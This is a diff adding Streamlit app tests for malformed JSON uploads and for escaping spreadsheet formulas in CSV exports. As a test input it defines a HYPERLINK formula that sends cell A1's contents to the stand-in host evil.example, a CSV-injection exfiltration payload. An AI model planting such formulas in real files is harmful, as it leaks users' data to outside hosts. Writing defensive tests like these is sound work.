@@ -2,13 +2,17 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
+import re
 import time
 from pathlib import Path
 
 import pytest
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
+from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage
 from streamlit.testing.v1 import AppTest
 
 from memory.backends.redis_server import free_port
@@ -585,3 +589,103 @@ def test_a_turns_trace_shows_the_related_words_of_a_recalled_turn(app_env):
     assert tables, "the score components name the related words"
     rows = tables[-1]
     assert list(rows.loc[rows["kind"] == "turn", "related words"])[0] == "taekwondo"
+
+
+# -- uploads and exports (issue 21) ------------------------------------------------------------------------------
+
+BAD_UPLOADS = [
+    pytest.param(b"[" * 100_000 + b"]" * 100_000, "nested more than 32 levels deep", id="deep"),
+    pytest.param(b'{"name": "caf\xe9"}', "not UTF-8 text (byte 0xe9 at offset 13)", id="latin-1"),
+    pytest.param(b"[" + b"7" * 5000 + b"]", "a number with 5,000 digits", id="5000-digits"),
+]
+
+
+def _upload(at: AppTest, key: str, raw: bytes) -> None:
+    at.file_uploader(key=key).set_value(("upload.json", raw, "application/json")).run()
+
+
+def _errors(at: AppTest) -> str:
+    """The page's error boxes as the reader sees them (markdown escapes removed)."""
+    assert not at.exception, [e.value for e in at.exception]
+    return re.sub(r"\\(.)", r"\1", " | ".join(e.value for e in at.error))
+
+
+@pytest.mark.parametrize(
+    ("raw", "words"),
+    [*BAD_UPLOADS, pytest.param(b'{"turns": ["My name is Ada."]}', "turns[0] is not a JSON object", id="turn-text")],
+)
+def test_a_bad_scenario_upload_is_a_clear_error_on_compare(app_env, raw, words):
+    at = open_page("pages/compare.py")
+    at.radio(key="cmp_source").set_value("Upload JSON").run()
+    _upload(at, "cmp_upload", raw)
+    assert words in _errors(at)
+    assert at.button(key="cmp_run").disabled
+
+
+@pytest.mark.parametrize(
+    ("raw", "words"),
+    [
+        *BAD_UPLOADS,
+        pytest.param(b'[{"conversation": {"session_1": ["Hi"]}}]', "session_1[0] is not a JSON object", id="turn"),
+        pytest.param(b'[{"conversation": {}, "qa": ["Who?"]}]', "qa[0] is not a JSON object", id="question"),
+        pytest.param(
+            b'[{"conversation": {}, "qa": [{"question": "Who?", "category": "x"}]}]', "category is not a number", id="x"
+        ),
+        pytest.param(
+            b'[{"conversation": {}, "qa": [{"question": "Who?", "category": Infinity}]}]', "Infinity", id="inf"
+        ),
+    ],
+)
+def test_a_bad_data_set_upload_is_a_clear_error_on_recall_lab(app_env, raw, words):
+    at = open_page("pages/recall_lab.py")
+    at.selectbox(key="rl_source").set_value("Upload a LoCoMo-format JSON file").run()
+    _upload(at, "rl_upload", raw)
+    assert words in _errors(at)
+    assert at.button(key="rl_run").disabled
+
+
+class _KeptMedia(MemoryMediaFileStorage):
+    """Streamlit's own in-memory media store, kept after the run so a test can read what a download serves."""
+
+    kept: list[MemoryMediaFileStorage] = []
+
+    def __init__(self, *args: object) -> None:
+        super().__init__(*args)
+        _KeptMedia.kept.append(self)
+
+
+def _download(at: AppTest, label: str) -> str:
+    button = next(d for d in at.get("download_button") if d.label == label)
+    name = button.proto.url.rsplit("/", 1)[1]
+    for storage in reversed(_KeptMedia.kept):
+        try:
+            return storage.get_file(name).content.decode()
+        except Exception:  # noqa: BLE001 - another run's store
+            continue
+    raise AssertionError(f"no file behind {label!r}")
+
+
+FORMULA = '=HYPERLINK("https://evil.example/?"&A1, "open")'
+
+
+def test_the_audit_and_compare_csv_exports_hold_no_live_formulas(app_env, monkeypatch):
+    monkeypatch.setattr("streamlit.testing.v1.app_test.MemoryMediaFileStorage", _KeptMedia)
+    at = open_page("pages/chat.py")
+    at.selectbox(key="strategy").set_value("buffer").run()
+    at.chat_input[0].set_value(FORMULA).run()
+    at.switch_page("pages/audit.py").run()
+    rows = list(csv.DictReader(io.StringIO(_download(at, "Download as CSV"), newline="")))
+    assert "'" + FORMULA in [r["content"] for r in rows], "the formula is text, with its leading quote"
+    assert not any(v.startswith(("=", "+", "-", "@")) for r in rows for v in r.values())
+
+    at.switch_page("pages/compare.py").run()
+    at.radio(key="cmp_source").set_value("Upload JSON").run()
+    scenario = {"name": "@SUM(1+1)", "turns": [{"user": "-2+3"}, {"user": FORMULA, "expect": ["+1"]}]}
+    _upload(at, "cmp_upload", json.dumps(scenario).encode())
+    at.multiselect(key="cmp_strategies").set_value(["buffer"]).run()
+    at.button(key="cmp_run").click().run()
+    assert not at.exception, [e.value for e in at.exception]
+    rows = list(csv.DictReader(io.StringIO(_download(at, "Download results as CSV"), newline="")))
+    assert [r["user"] for r in rows] == ["'-2+3", "'" + FORMULA] and rows[0]["scenario"] == "'@SUM(1+1)"
+    assert json.loads(rows[1]["expected"]) == ["+1"], "lists as JSON, which starts with '['"
+    assert not any(v.startswith(("=", "+", "-", "@")) for r in rows for v in r.values())
